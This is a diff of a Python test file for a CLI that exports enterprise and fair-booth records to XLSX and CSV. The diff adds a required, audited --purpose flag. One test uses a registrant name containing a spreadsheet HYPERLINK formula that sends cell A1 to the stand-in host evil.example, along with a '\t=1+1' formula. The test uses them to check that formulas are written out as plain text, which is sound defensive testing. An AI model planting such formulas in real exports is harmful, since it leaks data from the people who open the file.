@@ -35,7 +35,18 @@ async def test_export_enterprises_of_one_ward_as_xlsx(
     await add_enterprise(app, "p3", "Lò gốm Đức Ánh", phone="+84903333444")
     target = tmp_path / "bat-trang.xlsx"
     code, out, _ = await _run(
-        ["export", "enterprises", "--ward", "bat trang", "--status", "approved", "-o", str(target)],
+        [
+            "export",
+            "enterprises",
+            "--ward",
+            "bat trang",
+            "--status",
+            "approved",
+            "--purpose",
+            "contact",
+            "-o",
+            str(target),
+        ],
         capsys,
     )
     assert code == 0 and "1 rows" in out
@@ -48,6 +59,7 @@ async def test_export_enterprises_of_one_ward_as_xlsx(
     [entry] = await audit_entries(app)
     assert (entry.actor, entry.action, entry.target) == ("cli", "export.enterprises", str(target))
     assert entry.after["ward"] == "00577" and entry.after["rows"] == 1
+    assert entry.after["purpose"] == "contact"
 
 
 async def test_export_booths_of_a_fair_as_english_csv(
@@ -59,9 +71,8 @@ async def test_export_booths_of_a_fair_as_english_csv(
     async with svc.db.transaction():
         await svc.booths.apply(fair.id, e.id, e.account_id, 2, "Bình hút lộc")
     target = tmp_path / "booths.csv"
-    code, _, _ = await _run(
-        ["export", "booths", "--fair", "test-fair", "--lang", "en", "-o", str(target)], capsys
-    )
+    argv = ["export", "booths", "--fair", "test-fair", "--lang", "en", "--purpose", "hội chợ"]
+    code, _, _ = await _run([*argv, "-o", str(target)], capsys)
     assert code == 0
     content = target.read_bytes()
     assert content.startswith(b"\xef\xbb\xbf")
@@ -78,14 +89,29 @@ async def test_export_booths_of_a_fair_as_english_csv(
         (["--fair", "no-such-fair"], "--fair 'no-such-fair'"),
         (["--ward", "Atlantis"], "--ward 'Atlantis'"),
     ],
+    ids=["sector", "status", "fair", "ward"],
 )
 async def test_bad_filters_are_one_line(
     app: App, tmp_path: Path, capsys: pytest.CaptureFixture[str], args: list[str], problem: str
 ) -> None:
     target = tmp_path / "x.xlsx"
-    code, _, err = await _run(["export", "enterprises", *args, "-o", str(target)], capsys)
+    code, _, err = await _run(
+        ["export", "enterprises", *args, "--purpose", "report", "-o", str(target)], capsys
+    )
     assert code == 2 and problem in err and len(err.strip().splitlines()) == 1
     assert not target.exists()
+
+
+async def test_the_purpose_is_required_and_said(
+    app: App, tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    target = tmp_path / "x.xlsx"
+    with pytest.raises(SystemExit):
+        await _run(["export", "enterprises", "-o", str(target)], capsys)
+    code, _, err = await _run(
+        ["export", "enterprises", "--purpose", " x ", "-o", str(target)], capsys
+    )
+    assert code == 2 and "--purpose" in err and not target.exists()
 
 
 @pytest.mark.parametrize("suffix", ["xlsx", "csv"])
@@ -95,7 +121,9 @@ async def test_a_registrant_s_formula_is_written_as_text(
     name = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")'
     await add_enterprise(app, "p1", name, contact="\t=1+1")
     target = tmp_path / f"all.{suffix}"
-    code, _, _ = await _run(["export", "enterprises", "-o", str(target)], capsys)
+    code, _, _ = await _run(
+        ["export", "enterprises", "--purpose", "report", "-o", str(target)], capsys
+    )
     assert code == 0
     if suffix == "xlsx":
         ws = openpyxl.load_workbook(target).active
